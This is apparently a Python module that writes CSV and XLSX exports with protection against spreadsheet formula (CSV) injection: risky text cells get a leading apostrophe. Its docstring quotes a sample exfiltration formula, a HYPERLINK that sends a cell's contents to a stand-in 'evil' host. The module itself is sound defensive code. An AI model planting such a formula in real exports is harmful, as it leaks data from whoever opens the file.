"""CSV and XLSX exports that a spreadsheet cannot turn into formulas (quality promise 6).

A cell such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` typed into a community name
runs when the programme office opens the export in Excel or LibreOffice. Every text cell
that starts with one of `= + - @ TAB CR` is written with a leading apostrophe, which the
spreadsheet shows as text (OWASP "CSV injection"). Numbers, dates and booleans are written
as values: they cannot carry a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

ExportRow = Sequence[Any] | Mapping[str, Any]


def _is_number(value: object) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def safe_cell(value: object) -> str:
    """The value as export text, with an apostrophe before anything a spreadsheet would run."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if _is_number(value):
        # str() of a number is never a formula ("-5" is the number -5).
        return str(value)
    if isinstance(value, dt.date | dt.datetime | dt.time):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def _cells(row: ExportRow, header: Sequence[str]) -> list[Any]:
    if isinstance(row, Mapping):
        return [row.get(name) for name in header]
    return list(row)


def write_csv(rows: Iterable[ExportRow], header: Sequence[str], *, bom: bool = False) -> bytes:
    """UTF-8 CSV with a header row; rows are sequences, or mappings keyed by header name.

    `bom=True` adds a byte-order mark so that Excel on Windows reads the accents right.
    """
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in _cells(row, header)])
    return ("\ufeff" if bom else "").encode() + out.getvalue().encode("utf-8")


def _xlsx_value(value: object) -> object:
    if value is None or isinstance(value, bool) or _is_number(value):
        return value
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        # Excel has no time zones: write UTC, naive.
        return value.astimezone(dt.UTC).replace(tzinfo=None)
    if isinstance(value, dt.date | dt.datetime | dt.time):
        return value
    # XML cannot hold most control characters; drop them rather than fail the export.
    return ILLEGAL_CHARACTERS_RE.sub("", safe_cell(value))


def write_xlsx(
    rows: Iterable[ExportRow], header: Sequence[str], *, sheet_title: str = "Export"
) -> bytes:
    """An XLSX workbook with one sheet: the header row, then the rows (streamed, write-only)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title[:31] or "Export")
    sheet.append([_xlsx_value(h) for h in header])
    for row in rows:
        sheet.append([_xlsx_value(v) for v in _cells(row, header)])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
